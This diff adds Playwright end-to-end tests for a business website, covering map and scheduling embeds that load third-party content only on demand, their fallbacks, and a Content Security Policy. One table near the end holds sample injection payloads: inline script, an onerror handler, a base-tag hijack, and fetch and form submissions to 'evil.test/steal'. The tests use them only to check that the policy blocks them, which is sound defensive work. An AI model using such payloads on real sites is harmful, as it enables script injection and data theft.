@@ -1,0 +1,203 @@
+/** Third parties are requested only on demand, and the site works without them. */
+import { expect, type Page, test } from "@playwright/test";
+import { fillTemplate } from "../../src/lib/fill-template";
+import { words } from "../setup/words";
+import { findCutOffTexts, resize } from "./cut-off-texts";
+import { openPage, scrollThrough, standForThirdParties } from "./site";
+import { appointment, expectNoDialog, formOf } from "./visitor";
+
+const { company, home, labels, scheduling } = words;
+const { places = [], ...coverage } = words.aboutUs.coverage;
+const named = (page: Page, name: string) => page.getByRole("button", { name, exact: true });
+const dialogOf = (page: Page) => page.getByRole("dialog", { name: scheduling.title });
+const openScheduling = (page: Page) =>
+  page.getByRole("button", { name: home.hero.action.label }).click();
+
+test("the map is requested on a click only, says so while its service is away, and can be hidden", async ({
+  page,
+}) => {
+  const { title, showLabel, hideLabel, openLabel } = company.map;
+  const blocked = await standForThirdParties(page, "block");
+  await openPage(page, "/contact-us");
+  await scrollThrough(page);
+  expect(blocked).toEqual([]);
+  await expect(page.locator("iframe")).toHaveCount(0);
+  await named(page, showLabel).click();
+  await expect(page.getByText(labels.embedUnavailable).first()).toBeVisible();
+  expect(new Set(blocked).size).toBe(1);
+  await expect(page.getByRole("link", { name: openLabel })).toHaveAttribute("target", "_blank");
+  await named(page, hideLabel).click();
+  await expect(named(page, showLabel)).toBeFocused();
+
+  await standForThirdParties(page);
+  await named(page, showLabel).click();
+  const frame = page.getByTitle(title, { exact: true });
+  await expect(frame.contentFrame().getByText("Third party")).toBeVisible();
+});
+
+if (places.length > 0) {
+  test("each place that is chosen shows on the map with its marker, in sight", async ({ page }) => {
+    await standForThirdParties(page);
+    await openPage(page, "/about-us");
+    for (const { name, latitude, longitude } of places) {
+      await page.getByRole("button", { name: fillTemplate(coverage.showPlace, { name }) }).click();
+      const marker = new URLSearchParams({ marker: `${String(latitude)},${String(longitude)}` });
+      await expect(page.locator(`iframe[src*="${marker.toString()}"]`)).toBeInViewport();
+    }
+  });
+
+  test("on the coverage map, every name is on the drawing, and covers no other", async ({
+    page,
+  }) => {
+    await openPage(page, "/about-us");
+    const map = page.getByRole("img", { name: coverage.mapAlt });
+    for (const width of [640, 1280]) {
+      await resize(page, width);
+      const wrong = await map.evaluate((drawing) => {
+        const frame = drawing.getBoundingClientRect();
+        const marks = [...(drawing.parentElement?.querySelectorAll("span, text") ?? [])]
+          .filter((mark) => mark.checkVisibility() && /\p{L}/u.test(mark.textContent))
+          .filter((mark) => mark.childElementCount === 0)
+          .map((mark) => ({ text: mark.textContent, box: mark.getBoundingClientRect() }));
+        return marks
+          .filter(
+            ({ box }) =>
+              box.left < frame.left ||
+              box.right > frame.right ||
+              marks.some(
+                ({ box: other }) =>
+                  other !== box &&
+                  box.left < other.right &&
+                  other.left < box.right &&
+                  box.top < other.bottom &&
+                  other.top < box.bottom,
+              ),
+          )
+          .map(({ text }) => text);
+      });
+      expect(wrong, `${String(width)} px`).toEqual([]);
+    }
+  });
+}
+
+test("the scheduling dialog requests its script and its calendar when it opens, and the script never runs in the page", async ({
+  page,
+}) => {
+  const { scriptUrl, calendarUrl, timeZone } = company.scheduling;
+  const requested = await standForThirdParties(page);
+  const body = "document.title = 'attacked'";
+  await page.route(scriptUrl, async (route) => {
+    requested.push(scriptUrl);
+    await route.fulfill({ contentType: "text/javascript", body });
+  });
+  await openPage(page, "/");
+  const title = await page.title();
+  expect(requested).toEqual([]);
+  const received = page.waitForResponse(scriptUrl);
+  await openScheduling(page);
+  await received;
+  const calendar = dialogOf(page).getByTitle(scheduling.calendar);
+  await expect(calendar.contentFrame().getByText("Third party")).toBeVisible();
+  await expect(dialogOf(page)).toContainText(timeZone);
+  expect(await page.title()).toBe(title);
+  const others = requested.filter((url) => url !== scriptUrl).map((url) => new URL(url));
+  for (const { hostname, searchParams } of others) {
+    expect(hostname).toBe(new URL(calendarUrl).hostname);
+    expect(searchParams.getAll("ctz")).toEqual([timeZone]);
+  }
+});
+
+test("the scheduling dialog offers three other ways while its third parties are blocked", async ({
+  page,
+}) => {
+  await standForThirdParties(page, "block");
+  await openPage(page, "/");
+  await openScheduling(page);
+  const dialog = dialogOf(page);
+  await expect(dialog.getByText(scheduling.unavailable).first()).toBeVisible();
+  const email = fillTemplate(scheduling.email, { email: company.email });
+  const phone = fillTemplate(scheduling.phone, { phone: company.phone.label });
+  for (const name of [email, phone]) await expect(dialog.getByRole("link", { name })).toBeVisible();
+  await dialog.getByRole("link", { name: scheduling.appointment.label }).click();
+  await expect(page).toHaveURL("/contact-us#appointment");
+  await expect(formOf(page, appointment)).toBeVisible();
+});
+
+test("a calendar that redirects to a host that content does not allow is not shown", async ({
+  page,
+}) => {
+  await standForThirdParties(page);
+  const calendar = `${new URL(company.scheduling.calendarUrl).origin}/**`;
+  await page.route(calendar, (route) =>
+    route.fulfill({ status: 302, headers: { Location: "https://elsewhere.example/sign-in" } }),
+  );
+  await openPage(page, "/");
+  await openScheduling(page);
+  await expect(dialogOf(page).getByText(scheduling.unavailable).first()).toBeVisible();
+  await expect(dialogOf(page).locator("iframe")).toHaveCount(0);
+  await page.keyboard.press("Escape");
+  await expectNoDialog(page);
+  expect(await findCutOffTexts(page)).toEqual([]);
+});
+
+/** What somebody may have put into a page. Each runs there. */
+const injections: Record<string, () => void> = {
+  "an inline script": () => {
+    const script = document.createElement("script");
+    script.textContent = "document.title = 'attacked'";
+    document.body.append(script);
+  },
+  "an event handler": () => {
+    const picture = `<img src="x" onerror="document.title='attacked'">`;
+    document.body.insertAdjacentHTML("beforeend", picture);
+  },
+  "a style": () => {
+    document.body.insertAdjacentHTML("beforeend", "<style>body{display:none}</style>");
+  },
+  "a script of another host": () => {
+    const script = document.createElement("script");
+    script.src = "https://evil.test/script.js";
+    document.body.append(script);
+  },
+  "a base address": () => {
+    const base = document.createElement("base");
+    base.href = "https://evil.test/";
+    document.head.append(base);
+  },
+  "an iframe of another host": () => {
+    const frame = document.createElement("iframe");
+    frame.src = "https://evil.test/";
+    document.body.append(frame);
+  },
+  "a connection to another host": () => {
+    void fetch("https://evil.test/steal").catch(() => undefined);
+  },
+  "a form to another host": () => {
+    const form = document.createElement("form");
+    form.action = "https://evil.test/steal";
+    document.body.append(form);
+    form.submit();
+  },
+};
+
+test("the policy blocks what is injected into a page", async ({ page }) => {
+  const requested = await standForThirdParties(page);
+  await page.addInitScript(() => {
+    const violations: string[] = [];
+    Object.assign(window, { violations });
+    document.addEventListener("securitypolicyviolation", (event) => {
+      violations.push(event.effectiveDirective);
+    });
+  });
+  const violations = () => page.evaluate<string[]>("window.violations");
+  await openPage(page, "/");
+  const title = await page.title();
+  for (const [name, inject] of Object.entries(injections)) {
+    const before = (await violations()).length;
+    await page.evaluate(inject);
+    await expect.poll(async () => (await violations()).length, name).toBeGreaterThan(before);
+  }
+  expect(await page.title()).toBe(title);
+  await expect(page.getByRole("heading", { level: 1 })).toBeVisible();
+  expect(requested).toEqual([]);
+});
